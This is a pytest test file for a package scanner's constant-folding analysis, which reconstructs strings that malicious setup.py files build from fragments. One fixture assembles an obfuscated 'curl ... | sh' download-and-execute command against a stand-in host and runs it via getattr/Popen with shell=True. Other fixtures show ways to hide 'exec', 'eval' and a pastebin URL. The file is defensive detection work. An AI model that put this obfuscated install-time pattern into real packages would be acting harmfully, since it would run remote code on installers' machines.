"""Strings a Python file builds from literals, folded without running it."""

from __future__ import annotations

import ast

import pytest

from tests.analysis.builders import run_rule, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.folding import MAX_FOLDED, constants, folded
from threatfeed.analysis.rules.install import suspicious_setup_commands_rule


def _fold(expression: str, known: dict[str, str] | None = None) -> str | None:
    tree = ast.parse(expression, mode="eval")
    return folded(tree.body, known or {})


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("'sub' + 'process'", "subprocess"),
        ("'%s%s' % ('sub', 'process')", "subprocess"),
        ("'%s' % 'os'", "os"),
        ("'{}{}{}'.format('Po', 'p', 'en')", "Popen"),
        ("'{1}{0}'.format('en', 'Pop')", "Popen"),
        ('f\'https://{h}.com/{"r"}{"aw"}/x\'', "https://pastebin.com/raw/x"),
        ("''.join(['e', 'x', 'e', 'c'])", "exec"),
        ("'cexe'[::-1]", "exec"),
        ("chr(101) + chr(118) + 'al'", "eval"),
        ("'100%% %s' % 'sure'", "100% sure"),
    ],
)
def test_literals_glued_the_usual_ways_fold(expression: str, value: str) -> None:
    assert _fold(expression, {"h": "pastebin"}) == value


@pytest.mark.parametrize(
    "expression",
    [
        "'%999999999s' % 'x'",  # a width: no allocation on the attacker's terms
        "'{:>999999999}'.format('x')",
        "'ab' * 10",
        "'{0.__class__}'.format('x')",
        "'%s%s' % ('only one',)",
        "'{}{}'.format('only one')",
        "'{' + '9' * 5000 + '}'.format('x')",
        "input() + 'x'",
        "f'{x!r}'",
        "unknown + 'x'",
    ],
)
def test_anything_else_is_not_folded(expression: str) -> None:
    assert _fold(expression) is None


def test_folded_strings_stay_short() -> None:
    parts = " + ".join(["'abcdefghij'"] * (MAX_FOLDED // 10 + 1))
    assert _fold(parts) is None


def test_names_assigned_once_fold_and_reassigned_names_do_not() -> None:
    tree = ast.parse("a = 'sub'\nb = a + 'process'\nc = 'x'\nc = 'y'\nd = c + 'z'\n")
    known = constants(ast.walk(tree))
    assert known["b"] == "subprocess"
    assert "c" not in known
    assert "d" not in known  # built from a name whose value depends on the line


def test_a_setup_py_spelling_its_module_call_and_command_from_pieces(engine: Engine) -> None:
    setup_py = (
        "_a = '%s%s' % ('sub', 'process')\n"
        "_b = '{}{}{}'.format('Po', 'p', 'en')\n"
        "_u = f\"https://{'x.example'}.net/{'s'}\"\n"
        "_cmd = '{0} -s {1} | {2}'.format('curl', _u, 'sh')\n"
        "_m = __import__(_a)\n"
        "getattr(_m, _b)(_cmd, shell=True)\n"
        "from setuptools import setup\nsetup(name='x', version='1')\n"
    )
    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
    assert evidence == [
        {"code": "getattr(_m, _b)(_cmd, shell=True)", "type": "remote_code_execution"}
    ]


def test_a_setup_py_running_a_built_command_that_downloads_nothing_is_a_process(
    engine: Engine,
) -> None:
    setup_py = (
        "import subprocess\nflags = '-q'\ncmd = 'make ' + flags\n"
        "subprocess.check_call(cmd, shell=True)\n"
        "from setuptools import setup\nsetup(name='x', version='1')\n"
    )
    evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=setup_py))
    assert [item["type"] for item in evidence] == ["process"]
